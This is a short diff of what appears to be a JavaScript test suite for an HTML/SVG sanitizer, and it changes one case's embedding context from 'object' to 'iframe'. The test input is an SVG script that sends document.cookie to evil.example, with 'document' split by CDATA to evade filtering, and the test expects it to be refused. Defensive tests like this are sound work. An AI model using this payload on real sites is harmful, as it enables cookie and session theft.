@@ -46,7 +46,7 @@ cases(
     },
     'SVG, its script in pieces': {
       written: svg(`<script>location="https://evil.example/?a=1&amp;"+docu<![CDATA[ment.cookie]]></script>`),
-      where: 'object',
+      where: 'iframe',
       ...isRefused,
     },
     'a link': { written: framed(direct), where: 'document', ...isRefused, severity: 'warning' },
